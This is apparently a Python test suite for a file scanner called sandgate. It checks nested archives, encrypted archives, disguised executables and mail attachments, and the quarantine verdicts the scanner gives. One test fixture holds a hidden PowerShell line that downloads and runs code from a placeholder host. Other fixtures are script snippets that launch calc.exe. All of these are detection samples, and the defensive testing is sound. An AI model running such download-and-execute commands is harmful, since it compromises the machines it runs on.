#!/usr/bin/env python3
# End-to-end tests of `sandgate scan`: the object tree (paths, depths, labels,
# hashes) and the built-in default verdict for nested containers of every
# common format, encrypted archives, executables under misleading names,
# unsupported zip methods, mail with attachments, and the CLI's exit codes.
# Fixtures are built at test time with the real tools (zip, 7zz, tar and the
# compressors, genisoimage/xorriso, cpio, gcab) or byte by byte in Python.

import gzip
import bz2
import hashlib
import lzma
import os
import subprocess
import unittest
import zipfile

from harness import SandgateCase, finding_ids, main, run_sandgate
import fixtures as F

TEXT_A = F.prose(3000, seed=11)
TEXT_B = F.prose(1500, seed=12)
PDF = F.minimal_pdf("Curriculum vitae")
PE = F.minimal_pe(b"Job.pdf.exe fixture")


def need(*tools):
    missing = [t for t in tools if not F.have(t)]
    return unittest.skipIf(missing, "fixture tool(s) missing: %s" % ", ".join(missing))


class DoneWhen(SandgateCase):
    """Issue 2 "done when": Job.pdf.exe in a zip in a 7z in an ISO."""

    @need("zip", "7zz")
    @unittest.skipUnless(F.iso_tool(), "neither genisoimage nor xorriso installed")
    def test_exe_in_zip_in_7z_in_iso(self):
        z = F.make_zip_tool(self.path("offer.zip"), {"Job.pdf.exe": PE}, self.workdir("z"))
        s = F.make_7z(self.path("offer.7z"), {"offer.zip": F.file_bytes(z)}, self.workdir("s"))
        iso = F.make_iso(self.path("bundle.iso"), {"offer.7z": F.file_bytes(s)}, self.workdir("i"))
        res, rep = self.scan1(iso, expect_rc=1)
        exe = "bundle.iso/offer.7z/offer.zip/Job.pdf.exe"
        self.assertTree(rep, [
            ("bundle.iso", 0, "iso9660"),
            ("bundle.iso/offer.7z", 1, "7z"),
            ("bundle.iso/offer.7z/offer.zip", 2, "zip"),
            (exe, 3, "pe"),
        ])
        self.assertBytes(self.obj(rep, "bundle.iso"), F.file_bytes(iso))
        self.assertBytes(self.obj(rep, "bundle.iso/offer.7z"), F.file_bytes(s))
        self.assertBytes(self.obj(rep, "bundle.iso/offer.7z/offer.zip"), F.file_bytes(z))
        leaf = self.obj(rep, exe)
        self.assertBytes(leaf, PE)
        self.assertEqual(leaf.get("name", "").rsplit("/", 1)[-1], "Job.pdf.exe")
        self.assertFinding(leaf, "type.executable", "high")
        self.assertFinding(leaf, "name.double_extension", "high")
        self.assertEqual(rep["verdict"], "quarantine")
        self.assertReason(rep, exe, "type.executable")
        self.assertEqual(rep["limits"]["hit"], [])


class CleanContainers(SandgateCase):
    """Clean files in every common container: pass, exit 0, exact tree."""

    FILES = {"docs/a.txt": TEXT_A, "cv.pdf": PDF, "notes.txt": TEXT_B}
    LABELS = {"docs/a.txt": "text", "cv.pdf": "pdf", "notes.txt": "text"}

    def check_flat(self, rep, root, root_label, files=None, order=None):
        """The root, then each file at depth 1 in archive order (`order`,
        default the order they were given to the archiver)."""
        files = files or self.FILES
        if order is not None:
            self.assertEqual(sorted(order), sorted(files), "fixture sanity")
            files = {n: files[n] for n in order}
        expected = [(root, 0, root_label)] + [
            (root + "/" + n, 1, self.LABELS[n]) for n in files]
        self.assertTree(rep, expected)
        for n, data in files.items():
            self.assertBytes(self.obj(rep, root + "/" + n), data)
        self.assertEqual(rep["verdict"], "pass")
        self.assertEqual(rep["reasons"], [])
        self.assertEqual(rep["limits"]["hit"], [])

    @need("zip")
    def test_zip(self):
        z = F.make_zip_tool(self.path("clean.zip"), self.FILES, self.workdir("zip"))
        res, rep = self.scan1(z, expect_rc=0)
        self.check_flat(rep, "clean.zip", "zip")
        self.assertBytes(rep["objects"][0], F.file_bytes(z))
        self.assertEqual(rep["action"], "pass")

    def test_zip_stored_python(self):
        z = F.make_zip_py(self.path("stored.zip"), self.FILES, deflate=False)
        res, rep = self.scan1(z, expect_rc=0)
        self.check_flat(rep, "stored.zip", "zip")

    @need("7zz")
    def test_7z(self):
        s = F.make_7z(self.path("clean.7z"), self.FILES, self.workdir("7z"))
        res, rep = self.scan1(s, expect_rc=0)
        self.check_flat(rep, "clean.7z", "7z", order=F.sevenz_order(s))

    @need("tar")
    def test_plain_tar(self):
        tar = self.path("clean.tar")
        F.make_tar(tar, self.FILES, self.workdir("tar"))
        res, rep = self.scan1(tar, expect_rc=0)
        self.check_flat(rep, "clean.tar", "tar")

    def check_compressed_tar(self, comp, ext, decompress):
        tar_path = self.path("clean." + ext)
        tar = F.make_tar(tar_path, self.FILES, self.workdir(ext), compressor=comp)
        compressed = F.file_bytes(tar_path)
        self.assertEqual(decompress(compressed), tar, "fixture sanity")
        res, rep = self.scan1(tar_path, expect_rc=0)
        root = "clean." + ext
        objs = rep["objects"]
        self.assertEqual(objs[0]["type"]["label"], comp, self.tree(rep))
        self.assertBytes(objs[0], compressed)
        # Either the compressed stream's content is its own object (a tar at
        # depth 1 holding the files) or the files sit right below the root.
        if len(objs) == len(self.FILES) + 2:
            mid = objs[1]
            self.assertEqual((mid["depth"], mid["type"]["label"]), (1, "tar"), self.tree(rep))
            self.assertTrue(mid["path"].startswith(root + "/"), self.tree(rep))
            self.assertBytes(mid, tar)
            expected = [(root, 0, comp), (mid["path"], 1, "tar")] + [
                (mid["path"] + "/" + n, 2, self.LABELS[n]) for n in self.FILES]
            self.assertTree(rep, expected)
            for n, data in self.FILES.items():
                self.assertBytes(self.obj(rep, mid["path"] + "/" + n), data)
        else:
            self.check_flat(rep, root, comp)
        self.assertEqual(rep["verdict"], "pass")

    @need("tar", "gzip")
    def test_tar_gz(self):
        self.check_compressed_tar("gzip", "tar.gz", gzip.decompress)

    @need("tar", "bzip2")
    def test_tar_bz2(self):
        self.check_compressed_tar("bzip2", "tar.bz2", bz2.decompress)

    @need("tar", "xz")
    def test_tar_xz(self):
        self.check_compressed_tar("xz", "tar.xz", lzma.decompress)

    @need("tar", "zstd")
    def test_tar_zst(self):
        self.check_compressed_tar("zstd", "tar.zst", lambda b: subprocess.run(
            ["zstd", "-dc"], input=b, stdout=subprocess.PIPE, check=True).stdout)

    @need("tar", "lz4")
    def test_tar_lz4(self):
        self.check_compressed_tar("lz4", "tar.lz4", lambda b: subprocess.run(
            ["lz4", "-dc"], input=b, stdout=subprocess.PIPE, check=True).stdout)

    def test_single_stream_compressors(self):
        for comp, ext in (("gzip", "gz"), ("bzip2", "bz2"), ("xz", "xz"), ("zstd", "zst"), ("lz4", "lz4")):
            if not F.have(comp):
                continue
            with self.subTest(comp=comp):
                p = self.write("notes.txt." + ext, F.compress_bytes(TEXT_A, comp))
                res, rep = self.scan1(p, expect_rc=0)
                objs = rep["objects"]
                self.assertEqual(len(objs), 2, self.tree(rep))
                self.assertEqual(objs[0]["type"]["label"], comp)
                self.assertEqual((objs[1]["depth"], objs[1]["type"]["label"]), (1, "text"))
                self.assertBytes(objs[1], TEXT_A)

    @need("cpio")
    def test_cpio(self):
        files = {"a.txt": TEXT_A, "cv.pdf": PDF}
        c = F.make_cpio(self.path("clean.cpio"), files, self.workdir("cpio"))
        res, rep = self.scan1(c, expect_rc=0)
        self.LABELS = dict(self.LABELS, **{"a.txt": "text"})
        self.check_flat(rep, "clean.cpio", "cpio", files)

    @need("gcab")
    def test_cab(self):
        files = {"a.txt": TEXT_A, "cv.pdf": PDF}
        c = F.make_cab(self.path("clean.cab"), files, self.workdir("cab"))
        res, rep = self.scan1(c, expect_rc=0)
        self.LABELS = dict(self.LABELS, **{"a.txt": "text"})
        self.check_flat(rep, "clean.cab", "cab", files)

    @unittest.skipUnless(F.iso_tool(), "neither genisoimage nor xorriso installed")
    def test_iso(self):
        files = {"a.txt": TEXT_A, "cv.pdf": PDF}
        iso = F.make_iso(self.path("clean.iso"), files, self.workdir("iso"))
        res, rep = self.scan1(iso, expect_rc=0)
        self.LABELS = dict(self.LABELS, **{"a.txt": "text"})
        self.check_flat(rep, "clean.iso", "iso9660", files)

    @need("zip", "7zz", "tar", "gzip")
    def test_multiple_inputs_in_order(self):
        z = F.make_zip_tool(self.path("m1.zip"), self.FILES, self.workdir("m1"))
        s = F.make_7z(self.path("m2.7z"), self.FILES, self.workdir("m2"))
        t = self.path("m3.tar.gz")
        F.make_tar(t, self.FILES, self.workdir("m3"), compressor="gzip")
        res, reps = self.scan(z, s, t, expect_rc=0)
        self.assertEqual([r["objects"][0]["path"] for r in reps], ["m1.zip", "m2.7z", "m3.tar.gz"])
        self.assertEqual(len({r["id"] for r in reps}), 3, "report ids are distinct")
        # A quarantined input in the middle: exit 1, still one line each, in order.
        bad = F.make_zip_py(self.path("m-bad.zip"), {"setup.exe": PE})
        res, reps = self.scan(t, bad, z, expect_rc=1)
        self.assertEqual([r["objects"][0]["path"] for r in reps], ["m3.tar.gz", "m-bad.zip", "m1.zip"])
        self.assertEqual([r["verdict"] for r in reps], ["pass", "quarantine", "pass"])

    def test_nested_zip_paths(self):
        inner = F.make_zip_py(self.path("inner.zip"), {"dir/a.txt": TEXT_A})
        outer = F.make_zip_py(self.path("x.zip"), {"in/inner.zip": F.file_bytes(inner), "b.txt": TEXT_B})
        res, rep = self.scan1(outer, expect_rc=0)
        self.assertTree(rep, [
            ("x.zip", 0, "zip"),
            ("x.zip/in/inner.zip", 1, "zip"),
            ("x.zip/in/inner.zip/dir/a.txt", 2, "text"),
            ("x.zip/b.txt", 1, "text"),
        ])
        self.assertBytes(self.obj(rep, "x.zip/in/inner.zip/dir/a.txt"), TEXT_A)

    def test_profile_option(self):
        z = F.make_zip_py(self.path("p.zip"), {"a.txt": TEXT_A})
        for profile in ("mail", "upload"):
            with self.subTest(profile=profile):
                res, rep = self.scan1(z, args=("--profile", profile), expect_rc=0)
                self.assertEqual(rep["policy"]["profile"], profile)


class Encrypted(SandgateCase):
    """Encrypted archives are a finding (archive.encrypted) and quarantined."""

    def assert_encrypted(self, rep, accept_error=False):
        ids = finding_ids(rep)
        allowed = {"archive.encrypted"} | ({"unpack.error", "unpack.unsupported"} if accept_error else set())
        self.assertTrue(ids & allowed, "expected one of %s, got %s\n%s" % (allowed, ids, self.tree(rep)))
        self.assertEqual(rep["verdict"], "quarantine")
        self.assertTrue(any(r["finding"] in allowed for r in rep["reasons"]), rep["reasons"])

    @need("zip")
    def test_zipcrypto(self):
        z = F.make_zip_tool(self.path("enc.zip"), {"a.txt": TEXT_A, "cv.pdf": PDF}, self.workdir("e"),
                            extra=("-P", "secret"))
        res, rep = self.scan1(z, expect_rc=1)
        self.assertEqual(rep["objects"][0]["type"]["label"], "zip")
        self.assert_encrypted(rep)

    @need("7zz")
    def test_zip_aes(self):
        z = F.make_7z(self.path("aes.zip"), {"a.txt": TEXT_A}, self.workdir("a"),
                      extra=("-tzip", "-mem=AES256", "-psecret"))
        res, rep = self.scan1(z, expect_rc=1)
        self.assertEqual(rep["objects"][0]["type"]["label"], "zip")
        self.assert_encrypted(rep)

    @need("7zz")
    def test_7z_password(self):
        s = F.make_7z(self.path("enc.7z"), {"a.txt": TEXT_A, "cv.pdf": PDF}, self.workdir("s"),
                      extra=("-psecret",))
        res, rep = self.scan1(s, expect_rc=1)
        self.assertEqual(rep["objects"][0]["type"]["label"], "7z")
        self.assert_encrypted(rep)

    @need("7zz")
    def test_7z_encrypted_headers(self):
        s = F.make_7z(self.path("enchdr.7z"), {"a.txt": TEXT_A}, self.workdir("h"),
                      extra=("-psecret", "-mhe=on"))
        res, rep = self.scan1(s, expect_rc=1)
        self.assertEqual(rep["objects"][0]["type"]["label"], "7z")
        self.assert_encrypted(rep)
        self.assertNotIn("unpack.error", finding_ids(rep))

    @need("zip")
    def test_encrypted_zip_nested(self):
        z = F.make_zip_tool(self.path("enc2.zip"), {"a.txt": TEXT_A}, self.workdir("n"),
                            extra=("-P", "secret"))
        outer = F.make_zip_py(self.path("outer-enc.zip"), {"enc2.zip": F.file_bytes(z), "ok.txt": TEXT_B})
        res, rep = self.scan1(outer, expect_rc=1)
        self.assert_encrypted(rep)
        self.assertBytes(self.obj(rep, "outer-enc.zip/ok.txt"), TEXT_B)
        self.assertTrue(any(r["object"].startswith("outer-enc.zip/enc2.zip") for r in rep["reasons"]),
                        rep["reasons"])


class NamesAndTypes(SandgateCase):
    """The type comes from the bytes, never from the name."""

    def test_pe_named_pdf(self):
        p = self.write("invoice.pdf", F.minimal_pe(b"invoice"))
        res, rep = self.scan1(p, expect_rc=1)
        self.assertTree(rep, [("invoice.pdf", 0, "pe")])
        o = rep["objects"][0]
        self.assertFinding(o, "type.executable", "high")
        self.assertFinding(o, "type.extension_mismatch")
        self.assertReason(rep, "invoice.pdf", "type.executable")

    def test_pdf_named_exe(self):
        p = self.write("x.exe", PDF)
        res, rep = self.scan1(p)
        self.assertTree(rep, [("x.exe", 0, "pdf")])
        o = rep["objects"][0]
        self.assertFinding(o, "type.extension_mismatch")
        self.assertNotIn("type.executable", [f["id"] for f in o["findings"]])

    def test_elf_named_txt(self):
        with open("/bin/true", "rb") as f:
            elf = f.read()
        z = F.make_zip_py(self.path("tools.zip"), {"readme.txt": elf})
        res, rep = self.scan1(z, expect_rc=1)
        self.assertTree(rep, [("tools.zip", 0, "zip"), ("tools.zip/readme.txt", 1, "elf")])
        self.assertFinding(rep["objects"][1], "type.executable", "high")
        self.assertReason(rep, "tools.zip/readme.txt", "type.executable")

    def test_double_extension_on_text(self):
        # The name alone is suspicious even when the bytes are harmless.
        z = F.make_zip_py(self.path("de.zip"), {"Invoice.pdf.exe": TEXT_A})
        res, rep = self.scan1(z, expect_rc=1)
        self.assertFinding(self.obj(rep, "de.zip/Invoice.pdf.exe"), "name.double_extension", "high")

    def test_double_click_scripts(self):
        scripts = {
            "update.bat": b"@echo off\r\npowershell -nop -w hidden -c \"iex (iwr http://x/p)\"\r\n",
            "invoice.vbs": b'Set s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c calc.exe"\r\n',
            "readme.js": b'var sh = new ActiveXObject("WScript.Shell");\r\nsh.Run("calc.exe");\r\n',
        }
        for name, data in scripts.items():
            with self.subTest(name=name):
                z = F.make_zip_py(self.path("s-" + name + ".zip"), {name: data})
                res, rep = self.scan1(z, expect_rc=1)
                o = self.obj(rep, "s-%s.zip/%s" % (name, name))
                self.assertFinding(o, "type.executable", "high")
                self.assertReason(rep, o["path"], "type.executable")

    def test_plain_text_passes(self):
        p = self.write("letter.txt", TEXT_A)
        res, rep = self.scan1(p, expect_rc=0)
        self.assertTree(rep, [("letter.txt", 0, "text")])
        self.assertBytes(rep["objects"][0], TEXT_A)


class Unsupported(SandgateCase):

    @need("7zz")
    def test_zip_deflate64(self):
        big = F.prose(200000, seed=5)
        z = F.make_7z(self.path("d64.zip"), {"big.txt": big}, self.workdir("d64"),
                      extra=("-tzip", "-mm=Deflate64"))
        with zipfile.ZipFile(z) as zf:
            self.assertEqual(zf.infolist()[0].compress_type, 9, "fixture is deflate64")
        res, rep = self.scan1(z, expect_rc=1)
        self.assertEqual(rep["objects"][0]["type"]["label"], "zip")
        ids = finding_ids(rep)
        self.assertIn("unpack.unsupported", ids, self.tree(rep))
        self.assertTrue(any(r["finding"] == "unpack.unsupported" for r in rep["reasons"]), rep["reasons"])
        # The entry is listed (named), never skipped in silence.
        self.assertIn("d64.zip/big.txt", [o["path"] for o in rep["objects"]] +
                      [r["object"] for r in rep["reasons"]])


class Mail(SandgateCase):

    def check_mail(self, eml_name, zip_name, want_name):
        z = F.make_zip_py(self.path("att.zip"), {"Job.pdf.exe": PE})
        zbytes = F.file_bytes(z)
        eml = self.write(eml_name, F.mail_with_attachment(zbytes, zip_name))
        res, rep = self.scan1(eml, expect_rc=1)
        objs = rep["objects"]
        self.assertEqual(objs[0]["type"]["label"], "eml", self.tree(rep))
        zobjs = [o for o in objs if o["sha256"] == hashlib.sha256(zbytes).hexdigest()]
        self.assertEqual(len(zobjs), 1, "the decoded attachment is one object:\n%s" % self.tree(rep))
        zo = zobjs[0]
        self.assertEqual(zo["type"]["label"], "zip")
        self.assertEqual(zo.get("name"), want_name)
        self.assertTrue(zo["path"].startswith(eml_name + "/"), zo["path"])
        self.assertGreaterEqual(zo["depth"], 1)
        exe = self.obj(rep, zo["path"] + "/Job.pdf.exe")
        self.assertEqual((exe["depth"], exe["type"]["label"]), (zo["depth"] + 1, "pe"))
        self.assertBytes(exe, PE)
        self.assertFinding(exe, "type.executable", "high")
        self.assertReason(rep, exe["path"], "type.executable")
        texts = [o for o in objs if o["depth"] >= 1 and o["type"]["label"] == "text"]
        self.assertTrue(texts, "the text body is an object:\n%s" % self.tree(rep))
        self.assertEqual(rep["verdict"], "quarantine")

    def test_eml_base64_zip_with_pe(self):
        self.check_mail("application.eml", "offer.zip", "offer.zip")

    def test_eml_rfc2231_name(self):
        self.check_mail("bewerbung.eml", "Bewerbung_M\u00fcller.zip", "Bewerbung_M\u00fcller.zip")


class MailStructure(SandgateCase):
    """Mail shapes that broke other parsers: forwarded messages, a missing
    final boundary, uuencoded bodies, RFC 2047 file names."""

    def pe_found(self, rep, data=PE):
        want = hashlib.sha256(data).hexdigest()
        pes = [o for o in rep["objects"] if o["sha256"] == want]
        self.assertTrue(pes, "the PE is an object:\n%s" % self.tree(rep))
        self.assertEqual(pes[0]["type"]["label"], "pe")
        self.assertFinding(pes[0], "type.executable", "high")
        self.assertReason(rep, pes[0]["path"], "type.executable")
        return pes[0]

    def test_forwarded_message_rfc822(self):
        from email.message import EmailMessage
        from email import message_from_bytes, policy
        z = F.file_bytes(F.make_zip_py(self.path("fwd.zip"), {"Job.pdf.exe": PE}))
        inner = message_from_bytes(F.mail_with_attachment(z, "offer.zip"), policy=policy.default)
        outer = EmailMessage()
        outer["From"] = "hr@example.com"
        outer["To"] = "it@example.com"
        outer["Subject"] = "Fwd: Application"
        outer.set_content("See the forwarded message.\n")
        outer.add_attachment(inner)  # message/rfc822
        p = self.write("forward.eml", outer.as_bytes())
        res, rep = self.scan1(p, expect_rc=1, timeout=30)
        exe = self.pe_found(rep)
        self.assertGreaterEqual(exe["depth"], 3, self.tree(rep))

    def test_missing_final_boundary(self):
        z = F.file_bytes(F.make_zip_py(self.path("mb.zip"), {"Job.pdf.exe": PE}))
        raw = F.mail_with_attachment(z, "offer.zip")
        lines = raw.rstrip(b"\n").split(b"\n")
        self.assertTrue(lines[-1].startswith(b"--") and lines[-1].endswith(b"--"), "fixture sanity")
        p = self.write("noend.eml", b"\n".join(lines[:-1]) + b"\n")
        res, rep = self.scan1(p, expect_rc=1, timeout=30)
        self.assertLess(len(rep["objects"]), 20, "no runaway of empty parts:\n%s" % self.tree(rep))
        self.pe_found(rep)

    def test_uuencoded_attachment(self):
        # POSIX uuencode allows both space and grave accent for a zero sextet;
        # Python's b2a_uu writes spaces by default, GNU uuencode backticks.
        import binascii
        for backtick in (True, False):
            with self.subTest(backtick=backtick):
                body = bytearray(b"Hello,\n\nthe installer is below.\n\nbegin 644 setup.exe\n")
                for i in range(0, len(PE), 45):
                    body += binascii.b2a_uu(PE[i:i + 45], backtick=backtick)
                body += b"`\nend\n\nRegards\n"
                msg = (b"From: a@example.org\nTo: b@example.com\nSubject: uu\nMIME-Version: 1.0\n"
                       b"Content-Type: text/plain; charset=us-ascii\n\n" + bytes(body))
                p = self.write("uu-%d.eml" % backtick, msg)
                res, rep = self.scan1(p, expect_rc=1, timeout=30)
                exe = self.pe_found(rep)
                self.assertEqual(exe.get("name"), "setup.exe")

    def test_rfc2047_filename(self):
        from email.header import Header
        z = F.file_bytes(F.make_zip_py(self.path("q.zip"), {"Job.pdf.exe": PE}))
        raw = F.mail_with_attachment(z, "offer.zip")
        enc = Header("Angebot_\u00c4rzte.zip", "utf-8").encode().encode()
        # Replace every spelling of the file name with an RFC 2047 encoded word,
        # as many real mailers write it (in quotes).
        raw = raw.replace(b'filename="offer.zip"', b'filename="' + enc + b'"')
        self.assertIn(enc, raw, "fixture sanity")
        p = self.write("q.eml", raw)
        res, rep = self.scan1(p, expect_rc=1, timeout=30)
        zobj = [o for o in rep["objects"] if o["sha256"] == hashlib.sha256(z).hexdigest()]
        self.assertEqual(len(zobj), 1, self.tree(rep))
        self.assertEqual(zobj[0].get("name"), "Angebot_\u00c4rzte.zip")
        self.pe_found(rep)


class ExitCodes(SandgateCase):

    def run_usage(self, *args):
        res = run_sandgate(list(args), timeout=30)
        self.assertFalse(res.timed_out, res.describe())
        self.assertEqual(res.rc, 2, res.describe())
        self.assertTrue(res.stderr.strip(), "a message on stderr:\n" + res.describe())
        return res

    def test_missing_file(self):
        res = self.run_usage("scan", os.path.join(self.tmp, "does-not-exist.zip"))
        self.assertIn(b"does-not-exist.zip", res.stderr)

    def test_missing_among_good(self):
        good = self.write("good.txt", TEXT_A)
        self.run_usage("scan", good, os.path.join(self.tmp, "nope.bin"))

    def test_no_paths(self):
        self.run_usage("scan")

    def test_unknown_option(self):
        good = self.write("good2.txt", TEXT_A)
        self.run_usage("scan", "--no-such-option", good)

    def test_unknown_command(self):
        self.run_usage("no-such-command")

    def test_directory_is_io_error(self):
        d = self.path("adir", "x")
        self.run_usage("scan", os.path.dirname(d))


if __name__ == "__main__":
    main()
